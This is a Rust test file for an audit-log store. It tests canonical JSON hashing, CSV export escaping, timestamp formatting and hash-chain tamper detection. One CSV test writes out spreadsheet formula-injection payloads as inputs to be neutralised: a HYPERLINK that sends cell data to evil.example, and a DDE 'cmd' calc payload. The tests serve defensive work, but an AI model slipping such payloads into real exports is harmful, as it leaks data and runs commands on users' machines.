//! The canonical form, the CSV export's cells, and the packed reading against the row-by-row one.

use chrono::{TimeZone, Utc};
use secrecy::SecretSlice;
use sha2::{Digest, Sha256};
use testkit::testdb::{Backend, TestDb};

use super::packed::{PageOutcome, check_packed, fetch_packed, rfc3339_micros};
use super::verify::Chain;
use super::*;
use crate::core::audit::{AuditAction, AuditOutcome};
use crate::core::model::{ActionId, AppName, AuditEvent, Handle};
use crate::core::ports::{Change, ReqRef, UnitOfWork};
use crate::store::db::q;
use crate::store::rows::from_micros;
use crate::store::{SqlStore, connect};

/// Strings that stress the JSON escaping: quotes, backslashes, every control character,
/// non-ASCII, astral planes, a NUL, a line separator, a lone `/`, and nothing.
fn tricky() -> Vec<String> {
    let mut v: Vec<String> = [
        "",
        "plain",
        "\"quoted\" and \\back\\slashed\\",
        "tab\there, newline\nthere, return\r, form\u{c} feed, bell\u{7}",
        "NUL \u{0} inside",
        "é, ß, 日本語, 🦀, \u{2028}\u{2029}, \u{202e}reversed, \u{feff}",
        "</script>/slash",
        "\u{7f} delete and \u{80} \u{9f} C1",
        "{\"json\": [1, 2, null]}",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    v.push((0u8..0x20).map(char::from).collect());
    v
}

#[allow(clippy::too_many_arguments)]
fn both_forms(
    seq: i64,
    at: &str,
    actor: &str,
    chat: Option<&str>,
    action: &str,
    subject: Option<&str>,
    app: Option<&str>,
    request: Option<i64>,
    ca: Option<i64>,
    outcome: &str,
    detail: &str,
    prev: &str,
) -> (Vec<u8>, Vec<u8>) {
    let value = serde_json::json!([
        seq, at, actor, chat, action, subject, app, request, ca, outcome, detail, prev
    ])
    .to_string()
    .into_bytes();
    let mut buf = Vec::new();
    canonical_into(
        &mut buf, seq, at, actor, chat, action, subject, app, request, ca, outcome, detail, prev,
    )
    .unwrap();
    (value, buf)
}

#[test]
fn canonical_bytes_are_those_of_the_json_value() {
    let tricky = tricky();
    let ints = [None, Some(0), Some(-1), Some(i64::MAX), Some(i64::MIN)];
    let mut n = 0;
    for (i, s) in tricky.iter().enumerate() {
        for (j, t) in tricky.iter().enumerate() {
            let opt_s = j.is_multiple_of(2).then_some(s.as_str());
            let int = ints[(i + j) % ints.len()];
            let (value, writer) = both_forms(
                i64::MAX - j as i64,
                "2025-01-02T03:04:05.000006Z",
                s,
                opt_s,
                t,
                opt_s.map(|_| t.as_str()),
                None,
                int,
                ints[j % ints.len()],
                s,
                t,
                GENESIS,
            );
            assert_eq!(
                String::from_utf8_lossy(&value),
                String::from_utf8_lossy(&writer)
            );
            assert_eq!(value, writer);
            // And the hash `append` stores is the one the packed check computes.
            assert_eq!(
                chain_hash(
                    i64::MAX - j as i64,
                    "2025-01-02T03:04:05.000006Z",
                    s,
                    opt_s,
                    t,
                    opt_s.map(|_| t.as_str()),
                    None,
                    int,
                    ints[j % ints.len()],
                    s,
                    t,
                    GENESIS,
                ),
                hex::encode(Sha256::digest(&writer))
            );
            n += 1;
        }
    }
    assert_eq!(n, tricky.len() * tricky.len());
}

/// A reason such as `=HYPERLINK(…)` reaches a spreadsheet as text, not as a formula.
#[test]
fn csv_cells_that_look_like_formulas_are_neutralised() {
    let row = |detail: &str, actor: &str| AuditRecord {
        seq: 1,
        at: "2025-01-02T03:04:05.000006Z".into(),
        actor: actor.into(),
        actor_chat_id: Some("@everyone".into()),
        action: "request.submitted".into(),
        subject: None,
        app: None,
        request: Some(-3),
        connector_action: None,
        outcome: "ok".into(),
        detail: detail.into(),
        hash: "ab".into(),
        prev_hash: GENESIS.into(),
    };
    let cases = [
        (
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\"",
        ),
        ("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""),
        ("-2+3", "\"'-2+3\""),
        ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\""),
        ("\t=1+1", "\"'\t=1+1\""),
        ("\r=1+1", "\"'\r=1+1\""),
    ];
    for (detail, cell) in cases {
        let mut out = Vec::new();
        write_csv(&[row(detail, "alice")], &mut out).unwrap();
        let csv = String::from_utf8(out).unwrap();
        let line = csv.split_once("\r\n").unwrap().1;
        assert!(
            line.contains(&format!(",ok,{cell},ab,")),
            "{detail:?}: {line}"
        );
        // The chat id starting with `@` and the negative request number too.
        assert!(line.contains(",\"'@everyone\","), "{line}");
        assert!(line.contains(",\"'-3\","), "{line}");
    }
    // Ordinary text is unchanged.
    let mut out = Vec::new();
    write_csv(&[row("needs it for Q3 - thanks", "bob")], &mut out).unwrap();
    let csv = String::from_utf8(out).unwrap();
    assert!(csv.contains(",bob,"), "{csv}");
    assert!(csv.contains(",ok,needs it for Q3 - thanks,ab,"), "{csv}");
}

#[test]
fn rfc3339_without_chrono_is_chronos_text() {
    let check = |us: i64| {
        let mut buf = [0u8; 27];
        let ours = rfc3339_micros(us, &mut buf).map(str::to_owned);
        let theirs = from_micros(us).map(rfc3339).ok();
        match ours {
            Some(o) => assert_eq!(Some(o), theirs, "{us} µs"),
            // Declined only outside 1970..=9999; chrono then decides.
            None => assert!(!(0..253_402_300_800_000_000).contains(&us), "{us} µs"),
        }
    };
    let dates = [
        (1970, 1, 1),
        (1972, 2, 29),
        (1972, 12, 31),
        (1999, 12, 31),
        (2000, 2, 29),
        (2000, 3, 1),
        (2024, 2, 29),
        (2100, 2, 28),
        (2100, 3, 1),
        (2400, 2, 29),
        (9999, 12, 31),
    ];
    for (y, m, d) in dates {
        let day = Utc
            .with_ymd_and_hms(y, m, d, 0, 0, 0)
            .unwrap()
            .timestamp_micros();
        for off in [0, 1, 999_999, 1_000_000, 3_599_999_999, 86_399_999_999] {
            check(day + off);
            check(day - off);
        }
    }
    for us in [
        i64::MIN,
        -1,
        0,
        253_402_300_800_000_000 - 1,
        253_402_300_800_000_000,
        i64::MAX,
    ] {
        check(us);
    }
    // A spread over the whole range, xorshift-seeded.
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..200_000 {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        check((x % 260_000_000_000_000_000) as i64 - 1_000_000_000_000_000);
        check((x % 4_000_000_000_000_000) as i64);
    }
}

fn event(i: usize, text: &str) -> AuditEvent {
    let at = Utc.with_ymd_and_hms(2025, 1, 2, 3, 4, 5).unwrap()
        + chrono::TimeDelta::microseconds(i as i64 * 1_000_003);
    AuditEvent {
        at,
        actor: if i.is_multiple_of(3) {
            Actor::System
        } else {
            Actor::Person(Handle::parse("alice").unwrap())
        },
        actor_chat_id: i.is_multiple_of(2).then(|| text.to_owned()),
        action: AuditAction::ALL[i % AuditAction::ALL.len()],
        subject: (i % 4 != 1).then(|| Handle::parse("bob").unwrap()),
        app: (i % 5 != 2).then(|| AppName::parse("figma").unwrap()),
        request: ReqRef::None,
        connector_action: (i % 2 == 1).then_some(ActionId(i as i64 * 7919)),
        outcome: AuditOutcome::ALL[i % AuditOutcome::ALL.len()],
        detail: format!("{text} / row {i}"),
    }
}

/// A store with `n` rows of tricky text, sealed, appended a few per transaction.
async fn tricky_chain(b: Backend, n: usize) -> (TestDb, SqlStore) {
    let db = TestDb::create(b).await;
    let key = SecretSlice::from(b"audit test key".to_vec());
    let store = connect(&db.url, Some(key)).await.unwrap();
    // PostgreSQL text cannot hold NUL.
    let texts: Vec<String> = tricky()
        .into_iter()
        .map(|t| match b {
            Backend::Postgres => t.replace('\0', "\\0"),
            Backend::Sqlite => t,
        })
        .collect();
    let mut i = 0;
    while i < n {
        let k = (1 + i % 4).min(n - i);
        let audit = (i..i + k)
            .map(|j| event(j, &texts[j % texts.len()]))
            .collect();
        store
            .commit(Change {
                audit,
                ..Change::default()
            })
            .await
            .unwrap();
        i += k;
    }
    (db, store)
}

/// The verdict (or error text) of both readings, with several page sizes for the packed
/// one; they must agree.
async fn same_verdicts(store: &SqlStore) -> Result<VerifyReport, String> {
    let reference = store
        .verify_audit_with(None)
        .await
        .map_err(|e| e.to_string());
    for page in [1, 2, 7, 40, PACKED_PAGE] {
        let packed = store
            .verify_audit_with(Some(page))
            .await
            .map_err(|e| e.to_string());
        assert_eq!(packed, reference, "page of {page} rows");
    }
    reference
}

async fn exec(store: &SqlStore, sql: &'static str) {
    q(sql).execute(&store.pool).await.unwrap();
}

async fn packed_reading_agrees_with_the_row_by_row_reading(b: Backend) {
    let (_db, store) = tricky_chain(b, 61).await;
    assert_eq!(
        same_verdicts(&store).await,
        Ok(VerifyReport::Ok {
            rows: 61,
            sealed: true
        })
    );
    // The packed reading really reads these rows (it does not fall back).
    let mut tx = store.pool.begin_read().await.unwrap();
    let page = fetch_packed(&mut tx, i64::MIN, 1000).await.unwrap();
    assert_eq!((page.count, page.last), (61, Some(61)));
    let mut chain = Chain::start();
    assert!(matches!(
        check_packed(&page.json, &mut chain),
        PageOutcome::Clean
    ));
    assert_eq!((chain.rows, chain.expected_seq), (61, 62));
    drop(tx);

    // Each tampering, at page boundaries and inside pages: same first broken row, same
    // reason.
    let tamperings: [&'static str; 9] = [
        "UPDATE audit SET detail = detail || ' ' WHERE seq = 14",
        "UPDATE audit SET actor_chat_id = NULL WHERE seq = 39",
        "UPDATE audit SET at = at + 1 WHERE seq = 41",
        "UPDATE audit SET hash = upper(hash) WHERE seq = 49",
        "DELETE FROM audit WHERE seq IN (35, 36)",
        "UPDATE audit SET seq = -seq WHERE seq = 20",
        "UPDATE audit SET prev_hash = hash WHERE seq = 8",
        "DELETE FROM audit WHERE seq > 57",
        "DELETE FROM audit WHERE seq = 1",
    ];
    let mut broken_at = Vec::new();
    for t in tamperings {
        let (_db, store) = tricky_chain(b, 61).await;
        exec(&store, t).await;
        match same_verdicts(&store).await {
            Ok(VerifyReport::Broken { seq, .. }) => broken_at.push(seq),
            other => panic!("{t}: {other:?}"),
        }
    }
    assert_eq!(broken_at, [14, 39, 41, 49, 37, -20, 8, 58, 2]);
}

#[tokio::test]
async fn packed_reading_agrees_sqlite() {
    packed_reading_agrees_with_the_row_by_row_reading(Backend::Sqlite).await;
}

#[tokio::test]
async fn packed_reading_agrees_postgres() {
    packed_reading_agrees_with_the_row_by_row_reading(Backend::Postgres).await;
}

/// Values SQLite's loose typing lets in: the packed reading hands these rows to the
/// row-by-row reading, so the error is the same.
#[tokio::test]
async fn oddly_typed_values_give_the_row_by_row_error_sqlite() {
    for t in [
        "UPDATE audit SET at = 'soon' WHERE seq = 9",
        "UPDATE audit SET at = 1.5 WHERE seq = 9",
        "UPDATE audit SET at = 9223372036854775807 WHERE seq = 9",
        "UPDATE audit SET detail = x'00ff' WHERE seq = 9",
        "UPDATE audit SET connector_action = 'x' WHERE seq = 9",
        "UPDATE audit SET outcome = NULL WHERE seq = 9",
    ] {
        let (_db, store) = tricky_chain(Backend::Sqlite, 30).await;
        // NULL breaks NOT NULL: rebuild the table without constraints first.
        // One transaction on one connection: spread over pooled connections, a
        // connection with an older snapshot could still see the dropped table.
        if t.contains("NULL WHERE") {
            let mut tx = store.pool.begin_write().await.unwrap();
            for sql in [
                "CREATE TABLE audit_loose AS SELECT * FROM audit",
                "DROP TABLE audit",
                "ALTER TABLE audit_loose RENAME TO audit",
            ] {
                q(sql).execute(&mut tx).await.unwrap();
            }
            tx.commit().await.unwrap();
        }
        exec(&store, t).await;
        let r = same_verdicts(&store).await;
        assert!(
            r.is_err() || matches!(r, Ok(VerifyReport::Broken { seq: 9, .. })),
            "{t}: {r:?}"
        );
    }
}
